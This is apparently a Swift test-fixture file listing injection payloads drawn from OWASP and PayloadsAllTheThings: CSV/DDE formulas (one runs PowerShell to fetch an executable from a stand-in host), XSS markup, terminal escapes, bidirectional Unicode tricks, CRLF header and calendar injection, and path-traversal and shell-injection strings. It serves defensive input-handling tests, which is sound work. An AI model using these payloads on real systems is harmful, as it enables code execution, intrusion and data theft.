/// Texts that become something else where a program does not take care, by the public lists that name their kinds:
/// OWASP (CSV Injection; XSS Filter Evasion Cheat Sheet; WSTG: IMAP/SMTP injection, path traversal), PayloadsAllTheThings
/// (CSV Injection, CRLF Injection, Directory Traversal), the terminal sequences of CVE-2003-0063 and its kin, Trojan
/// Source (CVE-2021-42574), Unicode TR 36 and 39.
enum HostilePayloads {
  static let formulas = [
    "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x.example/s.exe)'!A0", "=2+5+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=AA+BB-CC&\"x\"/1&cmd|'/c calc.exe'!A", "=   cmd|'/c calc.exe'!A",
    "=HYPERLINK(\"http://x.example?a=\"&A1,\"y\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(1)", "=1+1\";=1+1", "|calc",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")", "=IMPORTDATA(\"http://x.example\")",
    "=WEBSERVICE(\"http://x.example\")", "=IMAGE(\"http://x.example\")",
  ]
  static let markup = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/a.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><img src=x onerror=alert(1)>", "<img src=\"javascript:alert(1)\">", "<IMG SRC=`javascript:alert(\"1\")`>",
    "<img \"\"\"><script>alert(1)</script>\">", "<svg/onload=alert(1)>", "<svg><script>alert&#40;1)</script>",
    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<base href=//x.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<link rel=stylesheet href=//x.example/a.css>",
    "<style>@import'//x.example/a.css';</style>", "<div style=\"background:url(javascript:alert(1))\">",
    "<object data=javascript:alert(1)>", "<embed src=//x.example/a.swf>", "<form action=//x.example><button>x",
    "<!--<script>alert(1)//-->", "<![CDATA[<script>alert(1)</script>]]>", "<math><mi//xlink:href=\"data:x,<script>\">",
    "<template><script>alert(1)</script></template>", "</script><script>alert(1)</script>", "<!--#exec cmd=\"x\"-->",
    "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>", "<x onclick=alert(1)>x",
    "<<script>alert(1);//<</script>",
  ]
  /// Not markup themselves, and shown as they are written.
  static let quotes = [
    "'-alert(1)-'", "\";alert(1);//", "javascript:alert(1)", "&lt;script&gt;", "${alert(1)}", "{{7*7}}",
    "\\\";alert(1)//",
  ]
  static let terminal = [
    "\u{1B}[2J", "\u{1B}]0;title\u{7}", "\u{1B}[31m", "\u{9B}31m", "\u{1B}]52;c;ZWNobw==\u{7}", "\u{8}\u{8}\u{8}",
    "\u{1B}P+q544e\u{1B}\\", "\u{1B}[6n", "\u{1B}c", "\u{7F}", "\u{1B}]8;;http://x.example\u{7}x\u{1B}]8;;\u{7}",
    "\u{1B}[21t", "\u{1B}_x\u{1B}\\", "\u{E}x\u{F}", "\u{1B}%@", "\u{9D}0;x\u{9C}", "\u{90}q\u{9C}", "\u{1B}[?1049h",
    "\u{1B}#8", "a\u{B}b\u{C}c",
  ]
  /// Marks of direction and signs without width.
  static let hidden = [
    "\u{202E}fdp.exe", "\u{202D}x\u{202C}", "\u{2066}x\u{2069}", "\u{2067}x\u{2069}", "\u{2068}x\u{2069}",
    "\u{202A}x\u{202C}",
    "\u{202B}x\u{202C}", "x\u{200E}y", "x\u{200F}y", "x\u{61C}y", "a\u{200B}b", "a\u{200C}b", "a\u{2060}b",
    "a\u{FEFF}b",
    "a\u{AD}b", "a\u{180E}b", "a\u{E0041}b", "/*\u{202E} } \u{2066}if (admin)\u{2069} \u{2066} begin */",
  ]
  /// Ends of lines that begin something new in a mail's header, a body's part or a calendar's property.
  static let lines = [
    "x\r\nBcc: y@x.example", "x\nBcc: y@x.example", "x\rBcc: y@x.example", "x\r\n\r\n<html>",
    "x\r\nContent-Type: text/html",
    "x%0d%0aBcc: y@x.example", "x\u{85}Bcc: y@x.example", "x\u{2028}Bcc: y@x.example", "x\u{2029}Bcc: y@x.example",
    "x\u{B}Bcc: y@x.example", "x\u{C}Bcc: y@x.example", "x\r\n Bcc: y@x.example",
    "x\r\n--=_trip_draft\r\nContent-Type: text/html",
    "=?utf-8?q?x=0D=0ABcc:_y?=", "x\" <y@x.example>, \"z", "x>, <y@x.example", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "x\nATTENDEE:mailto:y@x.example", "x\r\nBEGIN:VALARM\r\nACTION:AUDIO", "x\\nDTSTART:19700101", "x;VALUE=DATE:1",
    "x:y;z=\"a\"",
  ]
  static let paths = [
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "a/../../b", "%2e%2e%2f", "%252e%252e%252f",
    "..%c0%af..",
    "....//....//x", "..;/x", "..", ".", "CON", "NUL.txt", "COM1", "a\u{0}b", "~root", "$(touch x)", "`touch x`",
    "; rm -rf x",
    "-rf", "file:///etc/passwd", "\\\\x.example\\share", "a\u{FF0F}..\u{FF0F}b", "．．／x", ".git", "x.", "x ",
    String(repeating: "長", count: 300),
  ]

  static var counts: [(String, Int)] {
    [
      ("formulas", formulas.count), ("markup", markup.count + quotes.count), ("terminal", terminal.count),
      ("hidden signs", hidden.count), ("line ends", lines.count), ("paths", paths.count),
    ]
  }
}
